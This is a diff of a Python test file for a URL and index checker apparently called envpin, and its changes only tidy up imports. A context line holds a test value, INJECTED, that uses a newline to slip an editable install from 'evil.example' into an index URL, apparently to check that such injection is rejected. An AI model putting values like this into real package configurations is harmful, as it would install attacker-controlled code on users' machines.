@@ -4,14 +4,15 @@ URL, a flag or a facts file; loopback means loopback; credentials in an index UR
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
 
 import pytest
 
+from envpin.errors import EnvpinInputError
 from envpin.escapes import printable
 from envpin.resolver.urls import checked_index_url, is_loopback, redact_credentials
-from envpin.errors import EnvpinInputError
 from tests.conftest import REPO
 
 TARGET = ["--os", "linux", "--arch", "x86_64", "--driver", "550.54.15", "--gpu", "NVIDIA GeForce RTX 3090", "--python", "3.11"]
@@ -19,8 +20,6 @@ INJECTED = "https://m.example/whl\n-e git+https://evil.example/pwn.git#egg=pwn"
 
 
 def envpin(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
-    import os
-
     return subprocess.run([sys.executable, "-m", "envpin", *args], capture_output=True, text=True, cwd=REPO,
                           timeout=120, env={**os.environ, **(env or {})}, stdin=subprocess.DEVNULL)
 
